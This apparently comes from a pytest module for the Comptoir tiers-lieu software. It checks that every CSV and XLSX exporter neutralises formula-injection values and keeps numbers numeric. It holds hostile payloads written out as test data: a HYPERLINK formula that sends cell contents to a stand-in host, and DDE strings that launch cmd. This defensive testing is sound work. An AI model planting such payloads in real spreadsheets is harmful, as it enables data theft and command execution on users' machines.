"""Every CSV and XLSX Comptoir writes opens safely: a commune, a service, a category, a place, an
operation, an account… typed or imported as ``=HYPERLINK(…)`` (or starting with ``+``, ``-``,
``@``, a tab or a carriage return) reaches the file as text that starts with ``'``, never as a
formula; numbers stay numbers.

The list :data:`EXPORTERS` names every module that writes a spreadsheet; a test reads the
package and fails when a module writes one without being listed (and so without being run here
with hostile values).
"""

from __future__ import annotations

import csv
import importlib
import importlib.util
import io
import re
import uuid
import zipfile
from dataclasses import fields, replace
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlmodel import select

import tiers_lieu
from tiers_lieu.app import Comptoir
from tiers_lieu.errors import ComptoirError
from tiers_lieu.models import (
    AppUser,
    AssistanceRecord,
    Category,
    Commune,
    Operation,
    PaymentClaim,
    Person,
    Service,
    Site,
)
from tiers_lieu.models.enums import AuditAction, CategoryKind, Role
from tiers_lieu.reports import csv_export, xlsx_export
from tiers_lieu.reports.cells import PLACEHOLDER, safe_text
from tiers_lieu.reports.documents import assistance as assistance_export
from tiers_lieu.reports.model import INDICATORS, Indicator, OperationInfo, ReportData, TimeSpent
from tiers_lieu.services import audit
from tiers_lieu.services.assistance import AssistanceInput
from tiers_lieu.services.audit_log import AuditFilter
from tiers_lieu.services.organisation import OperationFields
from tiers_lieu.services.readmodels import SiteInfo

#: What an attacker types: a live link, a phone-looking sum, DDE payloads, hidden starts.
HOSTILE = (
    '=HYPERLINK("http://x.example/vol?d="&A1,"clic")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =2+2",
)
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: What a spreadsheet reads as a plain number (the figures of the French CSVs).
NUMBER = re.compile(r"-?\d+(?:[,.]\d+)?")
START, END = date(2026, 1, 1), date(2026, 3, 31)
PACKAGE = Path(tiers_lieu.__file__).parent

#: Every module that writes a CSV or an XLSX → what the tests below run of it.
EXPORTERS = {
    "reports/csv_export.py": "report CSV (file, and the CSV a bundle carries) and a received CSV",
    "reports/xlsx_export.py": "report XLSX",
    "reports/documents/assistance.py": "France Services table, CSV and XLSX",
    "reports/documents/coop.py": "the Coop's activity export (démarches, workshops), XLSX, CSV",
    "reports/documents/census.py": "Observatoire des tiers-lieux census, CSV and XLSX",
    "reports/documents/listing.py": "national listing of places (the schema's CSV, commas)",
    "reports/documents/fec.py": "FEC text and the Z totals (CSV, XLSX): test_till_fec.py",
    "services/audit_log.py": "audit log CSV",
}
#: The formula-safe helper itself: the only other place allowed to hold a writer.
HELPER = "reports/cells.py"


def hostile(n: int) -> str:
    """The n-th hostile text, unique (names are unique per site) and still hostile."""
    text = HOSTILE[n % len(HOSTILE)]
    return text if n < len(HOSTILE) else f"{text} {n}"


# -- checking a file -------------------------------------------------------------------------
def is_safe(text: str) -> bool:
    if text == PLACEHOLDER:  # a lone « - » (an empty filter of the Coop's export)
        return True
    return not (text.lstrip().startswith(DANGEROUS_STARTS) or text.startswith(DANGEROUS_STARTS))


def csv_fields(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [
        value for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for value in row
    ]


def check_csv(path: Path, planted: set[str]) -> None:
    """No field a spreadsheet would run, and every planted value there, neutralised."""
    values = csv_fields(path)
    unsafe = [v for v in values if not is_safe(v) and not NUMBER.fullmatch(v)]
    assert unsafe == [], f"{path.name}: formula-like fields {unsafe[:5]}"
    missing = {v for v in planted if not any(f.startswith("'" + v) for f in values)}
    assert not missing, f"{path.name}: hostile values that never reached the file {missing}"


def check_xlsx(path: Path, planted: set[str]) -> list[object]:
    """Read by openpyxl and straight from the XML: no formula, no error value, every text
    safe and every planted value there, neutralised. Returns every value read."""
    book = openpyxl.load_workbook(path)
    values: list[object] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                where = f"{path.name} {sheet.title}!{cell.coordinate}"
                assert cell.data_type not in ("f", "e"), f"{where}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s" and is_safe(cell.value), f"{where}: {cell.value!r}"
                values.append(cell.value)
    texts = [v for v in values if isinstance(v, str)]
    # XML reads a carriage return back as a line feed: the text is the same to the eye.
    missing = {
        v for v in planted if not any(t.startswith("'" + v.replace("\r", "\n")) for t in texts)
    }
    assert not missing, f"{path.name}: hostile values that never reached the file {missing}"
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[ >/]", xml), f"{name}: a formula element"
                assert 't="e"' not in xml, f"{name}: an error value"
    if importlib.util.find_spec("python_calamine") is None:
        return values  # a second reader when installed; the XML check above stands anyway
    calamine: Any = importlib.import_module("python_calamine")
    workbook = calamine.CalamineWorkbook.from_path(str(path))
    for name in workbook.sheet_names:
        for row in workbook.get_sheet_by_name(name).to_python():
            for value in row:
                assert not isinstance(value, str) or is_safe(value), f"{name}: {value!r}"
    return values


# -- a place whose every name is hostile ----------------------------------------------------
def first(app: Comptoir, site: SiteInfo, kind: CategoryKind) -> uuid.UUID:
    return app.config.list_categories(site.id, kind)[0].id


@pytest.fixture
def planted(app: Comptoir, site: SiteInfo) -> dict[str, set[str]]:
    """Visits and démarches of a place, then every name the exports may carry made hostile
    in the database (as an import, a typed name or a bundle could leave them). Returns the
    hostile values planted, by kind."""
    commune = app.communes.find_or_add(site.id, "23079")
    service = app.config.list_services(site.id)[0]
    with app.uow() as uow:
        person = Person(
            site_id=site.id,
            first_name=HOSTILE[0],
            last_name=HOSTILE[2],
            consent_given_at=datetime(2026, 1, 2, tzinfo=UTC),
        )
        uow.session.add(person)
        uow.commit()
        person_id = person.id
    visit = app.visits.count(site_id=site.id, service_id=service.id, activity_date=date(2026, 2, 3))
    app.visits.complete(
        visit.id,
        commune_id=commune.id,
        age_band_id=first(app, site, CategoryKind.AGE_BAND),
        gender_id=first(app, site, CategoryKind.GENDER),
        status_id=first(app, site, CategoryKind.STATUS),
        person_id=person_id,
        count=1,
    )
    kinds = (
        CategoryKind.OPERATOR,
        CategoryKind.THEME,
        CategoryKind.HELP_TYPE,
        CategoryKind.OUTCOME,
        CategoryKind.PLACE,
        CategoryKind.ORIENTATION,
        CategoryKind.AGE_BAND,
        CategoryKind.GENDER,
        CategoryKind.STATUS,
    )
    ids = {kind: first(app, site, kind) for kind in kinds}
    ids[CategoryKind.OUTCOME] = next(  # an orientation goes with the outcome « Orientée »
        c.id
        for c in app.config.list_categories(site.id, CategoryKind.OUTCOME)
        if c.label == "Orientée"
    )
    app.assistance.create(
        site.id,
        AssistanceInput(
            activity_date=date(2026, 3, 4),
            operator_id=ids[CategoryKind.OPERATOR],
            theme_id=ids[CategoryKind.THEME],
            help_type_id=ids[CategoryKind.HELP_TYPE],
            outcome_id=ids[CategoryKind.OUTCOME],
            place_id=ids[CategoryKind.PLACE],
            orientation_id=ids[CategoryKind.ORIENTATION],
            age_band_id=ids[CategoryKind.AGE_BAND],
            gender_id=ids[CategoryKind.GENDER],
            status_id=ids[CategoryKind.STATUS],
            commune_id=commune.id,
            person_id=person_id,
            duration_min=25,
            note=HOSTILE[3],
        ),
    )
    app.organisation.save_operation(site.id, OperationFields(title="Opération", start_date=START))
    app.organisation.add_claim(site.id, number="DP1", period_start=START, period_end=END)
    used: dict[str, set[str]] = {"category": set(), "commune": set(), "service": set()}
    n = 0
    with app.uow() as uow:
        session = uow.session
        for category in session.exec(select(Category).where(Category.site_id == site.id)):
            category.label = hostile(n)
            if category.id in ids.values():
                used["category"].add(category.label)
            n += 1
        for service_row in session.exec(select(Service).where(Service.site_id == site.id)):
            service_row.name = hostile(n)
            if service_row.id == service.id:
                used["service"].add(service_row.name)
            n += 1
        for commune_row in session.exec(select(Commune).where(Commune.site_id == site.id)):
            commune_row.name = hostile(n)
            if commune_row.id == commune.id:
                used["commune"].add(commune_row.name)
            n += 1
        operation = session.exec(select(Operation).where(Operation.site_id == site.id)).one()
        operation.title, operation.file_number = HOSTILE[0], HOSTILE[1]
        operation.gal_name, operation.region, operation.cofunders = HOSTILE[2:5]
        session.exec(select(Site).where(Site.id == site.id)).one().name = "#N/A"
        claim = session.exec(select(PaymentClaim).where(PaymentClaim.site_id == site.id)).one()
        claim.number = "@claim"
        uow.commit()
    used["operation"] = set(HOSTILE[0:5])
    used["claim"] = {"@claim"}
    return used


# -- the exporters ---------------------------------------------------------------------------
def test_the_report_of_a_hostile_place_opens_as_text(
    app: Comptoir, site: SiteInfo, planted: dict[str, set[str]], tmp_path: Path
) -> None:
    [claim] = planted["claim"]
    data = app.reports.compute(
        period_start=START,
        period_end=END,
        site_ids=[site.id],
        claim_number=claim,
        summary_text=HOSTILE[3],
    )
    in_report = planted["commune"] | planted["service"] | planted["operation"] | {claim}
    csv_file = app.reports.write(data, fmt="csv", path=tmp_path / "rapport.csv")
    check_csv(csv_file, planted["commune"] | planted["service"])
    xlsx_file = app.reports.write(data, fmt="xlsx", path=tmp_path / "rapport.xlsx")
    values = check_xlsx(xlsx_file, in_report | {HOSTILE[3]})
    assert "#N/A" in values  # the place's name, as text, not an error value
    # The CSV an « indicateurs seuls » bundle carries is the same text.
    bundle_csv = tmp_path / "paquet.csv"
    bundle_csv.write_text(csv_export.csv_text(data), encoding="utf-8")
    check_csv(bundle_csv, planted["commune"] | planted["service"])


def every_text_field_hostile() -> ReportData:
    """A report whose every text field (found by reflection, so a new field is covered) is
    hostile, with negative figures."""
    operation = OperationInfo(title="")
    operation = replace(
        operation,
        **{f.name: hostile(i) for i, f in enumerate(fields(OperationInfo)) if f.type == "str"},
    )
    indicators: list[Indicator] = []
    for n, (code, spec) in enumerate(INDICATORS.items()):
        indicators.append(Indicator(code, hostile(n), "", -3.5, spec.unit))
        if spec.breakdown:
            dimension = "2026-02" if code == "visits.by_month" else hostile(n + 1)
            indicators.append(Indicator(code, hostile(n), dimension, -2, spec.unit))
    data = ReportData(
        period_start=START,
        period_end=END,
        site_names=[HOSTILE[0], "x"],
        generated_at=datetime(2026, 4, 1, 9, tzinfo=UTC),
        operation=operation,
        claim_number="",
        summary_text="",
        indicators=indicators,
        time_spent=(TimeSpent(HOSTILE[1], HOSTILE[2], START, HOSTILE[3], HOSTILE[4], START, 90),),
    )
    texts: dict[str, Any] = {f.name: HOSTILE[5] for f in fields(ReportData) if f.type == "str"}
    texts.pop("time_zone", None)
    return replace(data, **texts)


def test_every_text_field_of_a_report_is_neutralised_and_numbers_stay_numbers(
    tmp_path: Path,
) -> None:
    data = every_text_field_hostile()
    labels = {i.label for i in data.indicators} | {i.dimension for i in data.indicators}
    labels.discard("")
    labels.discard("2026-02")
    csv_file = tmp_path / "rapport.csv"
    csv_export.write_csv(data, csv_file)
    check_csv(csv_file, labels)
    # The value column keeps the figures as French numbers.
    rows = list(csv.DictReader(io.StringIO(csv_file.read_text("utf-8-sig")), delimiter=";"))
    assert {r["valeur"] for r in rows} <= {"-3,5", "-3,50", "-3", "-2", "-2,00", "-2,0"}
    xlsx_file = tmp_path / "rapport.xlsx"
    xlsx_export.write_xlsx(data, xlsx_file)
    assert data.operation is not None
    operation = {getattr(data.operation, f.name) for f in fields(OperationInfo) if f.type == "str"}
    spent = {HOSTILE[1], HOSTILE[2], HOSTILE[3], HOSTILE[4]}  # « Temps passé »
    values = check_xlsx(xlsx_file, labels | operation | spent | {HOSTILE[0], HOSTILE[5]})
    assert -3.5 in values and -2 in values  # negative figures are numbers, not text


def test_the_coop_export_and_france_services_open_as_text(
    app: Comptoir, site: SiteInfo, planted: dict[str, set[str]], tmp_path: Path
) -> None:
    from tiers_lieu.reports.documents import coop
    from tiers_lieu.services.events import EventFields

    # A workshop and a démarche's name typed as formulas (or brought by a bundle).
    app.events.create(
        site.id,
        EventFields(
            title=HOSTILE[0], event_date=date(2026, 3, 5), place=HOSTILE[3], channel="autre"
        ),
    )
    with app.uow() as uow:
        uow.session.exec(select(AssistanceRecord)).one().demarche_name = HOSTILE[1]
        uow.commit()
    export = app.assistance.coop_activities([site.id], start=START, end=END)
    assert len(export.rows) == 2
    texts = {HOSTILE[0], HOSTILE[1], HOSTILE[3], *planted["commune"]}
    assert coop.write_coop_csv(export, tmp_path / "coop.csv") == 2
    check_csv(tmp_path / "coop.csv", texts)
    assert coop.write_coop_xlsx(export, tmp_path / "coop.xlsx") == 2
    values = check_xlsx(tmp_path / "coop.xlsx", texts)
    assert date(2026, 3, 4) in [v.date() if isinstance(v, datetime) else v for v in values]
    assert 25 in values  # the duration, a number
    assert "#N/A" in values  # the place's name: text, not an error value

    table = app.assistance.monthly_by_operator(site.id, start=START, end=END)
    assert table.lines
    operators = {line.operator for line in table.lines}
    assert assistance_export.write_monthly_csv(table, tmp_path / "fs.csv") == 1
    check_csv(tmp_path / "fs.csv", operators)
    assert assistance_export.write_monthly_xlsx(table, tmp_path / "fs.xlsx") == 1
    check_xlsx(tmp_path / "fs.xlsx", operators)
    assert not list(tmp_path.glob("*.partiel"))


def test_the_national_listing_opens_as_text(
    app: Comptoir, site: SiteInfo, planted: dict[str, set[str]], tmp_path: Path
) -> None:
    from tiers_lieu.reports.documents.listing import write_listing_csv
    from tiers_lieu.services.public_card import PublicCard

    with app.uow() as uow:  # a name and an address the place tab may refuse, as a bundle could
        row = uow.session.exec(select(Site).where(Site.id == site.id)).one()
        row.name, row.address = HOSTILE[0], HOSTILE[3]
        uow.commit()
    texts: dict[str, Any] = {
        "presentation_resume": HOSTILE[2],
        "source": HOSTILE[1],
        "structure_parente": HOSTILE[3],
        "complement_adresse": HOSTILE[4],  # blanks around a text are dropped: « =1+1 »
    }
    app.config.save_public_card(
        site.id, PublicCard(pivot="W231000123", code_postal="23500", **texts)
    )
    listing = app.config.national_listing()
    out = tmp_path / "lieux.csv"
    assert write_listing_csv(listing.entries, out) == 1
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    values = [value for row in rows for value in row]
    assert [v for v in values if not is_safe(v) and not NUMBER.fullmatch(v)] == []
    for planted_text in (HOSTILE[0], HOSTILE[3], HOSTILE[4].strip(), *list(texts.values())[:3]):
        assert "'" + planted_text in values


def test_the_observatoire_census_opens_as_text(
    app: Comptoir, site: SiteInfo, planted: dict[str, set[str]], tmp_path: Path
) -> None:
    from tiers_lieu.reports.documents import census

    with app.uow() as uow:  # a place's name as a bundle could bring it
        uow.session.exec(select(Site).where(Site.id == site.id)).one().name = HOSTILE[0]
        uow.commit()
    data = app.reports.census(period_start=START, period_end=END, site_ids=[site.id])
    # Services and categories (all hostile since the renames) are inside the labels.
    labels = [row.label for row in data.rows]
    assert any(name in label for name in planted["service"] for label in labels)
    census.write_census_csv(data, tmp_path / "o.csv")
    check_csv(tmp_path / "o.csv", {HOSTILE[0]})
    census.write_census_xlsx(data, tmp_path / "o.xlsx")
    values = check_xlsx(tmp_path / "o.xlsx", {HOSTILE[0]})
    assert 1 in values  # the visit, a number
    assert datetime(2026, 1, 1) in values  # the period, a date


def test_the_audit_log_csv_opens_as_text(app: Comptoir, site: SiteInfo, tmp_path: Path) -> None:
    admin = app.accounts.create_user(
        username="admin", display_name="Admin", role=Role.ADMIN, password="tilleul-2026"
    )
    with app.uow() as uow:  # a name the account screen may refuse, as a bundle could bring it
        uow.session.exec(
            select(AppUser).where(AppUser.id == admin.id)
        ).one().display_name = HOSTILE[0]
        uow.commit()
    app.access.sign_in(admin)
    with app.uow() as uow:
        audit.record(
            uow,
            action=AuditAction.EXPORT,
            entity=HOSTILE[4],
            entity_id=None,
            site_id=site.id,
            details={HOSTILE[3]: HOSTILE[1]},
        )
        uow.commit()
    out = tmp_path / "journal.csv"
    assert app.audit_log.export_csv(out, AuditFilter(), site_id=site.id) >= 1
    check_csv(out, {HOSTILE[0], HOSTILE[4], HOSTILE[3]})


def test_indicators_received_from_another_place_are_neutralised_before_saving(
    tmp_path: Path,
) -> None:
    received = (
        "code;libelle;dimension;valeur\r\n"
        'visits.by_commune;Visites par commune;"=HYPERLINK(""http://x"",""clic"")";-3\r\n'
        "visits.total;@SUM(1+1);;12,5\r\n"
        "evil;-2+3+cmd|' /C calc'!A0;\t=1+1;=1+1\r\n"
    )
    saved = tmp_path / "paquet.indicateurs.csv"
    csv_export.write_received(saved, received)
    text = saved.read_bytes().decode("utf-8")
    assert text.startswith("code;libelle;dimension;valeur\r\n")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == ["code", "libelle", "dimension", "valeur"]
    link = '\'=HYPERLINK("http://x","clic")'
    assert rows[1] == ["visits.by_commune", "Visites par commune", link, "-3"]
    assert rows[2] == ["visits.total", "'@SUM(1+1)", "", "12,5"]
    assert rows[3] == ["evil", "'-2+3+cmd|' /C calc'!A0", "'\t=1+1", "'=1+1"]

    # A field no CSV reader takes (beyond 128 KiB) is refused in French, nothing written.
    with pytest.raises(ComptoirError, match="Les indicateurs reçus ne sont pas un fichier CSV"):
        csv_export.write_received(tmp_path / "gros.csv", "code;libelle\r\nx;" + "=" * 200_000)
    assert not list(tmp_path.glob("gros.csv*"))


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6", "'+33 6"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1", "'  =1"),
        ("-3,5", "-3,5"),  # a plain number is a number, not a formula
        ("-", "-"),  # the dash of an empty filter (the Coop's export)
        ("- 1", "'- 1"),
        ("-12", "-12"),
        ("+33555667788", "+33555667788"),  # a telephone of the national listing
        ("+33 5 55", "'+33 5 55"),
        ("Saint-Jean", "Saint-Jean"),
        ("60-69", "60-69"),
        ("", ""),
    ],
)
def test_the_rule(text: str, written: str) -> None:
    assert safe_text(text) == written


# -- no exporter left out --------------------------------------------------------------------
WRITERS = re.compile(
    r"\bcsv\.(writer|DictWriter)\b"
    r"|^\s*(import|from)\s+(openpyxl|xlsxwriter|odf|pyexcel|pandas|xlwt)\b"
    r"|^\s*from\s+tiers_lieu\.reports\.cells\s+import\b"
    r"|\.write_(text|bytes)\([^)]*csv",
    re.MULTILINE,
)


def test_every_module_that_writes_a_spreadsheet_is_listed_and_run_here() -> None:
    found = set()
    for path in PACKAGE.rglob("*.py"):
        if WRITERS.search(path.read_text(encoding="utf-8")):
            found.add(path.relative_to(PACKAGE).as_posix())
    found.discard(HELPER)
    assert found == set(EXPORTERS), (
        "A module writes a CSV or an XLSX without being run by these tests with hostile values "
        "(or a listed one no longer does): add it to EXPORTERS and to a test above. "
        f"Unlisted: {sorted(found - set(EXPORTERS))}; gone: {sorted(set(EXPORTERS) - found)}"
    )
    for name in EXPORTERS:
        source = (PACKAGE / name).read_text(encoding="utf-8")
        assert "tiers_lieu.reports.cells import" in source, f"{name} bypasses the cell helper"
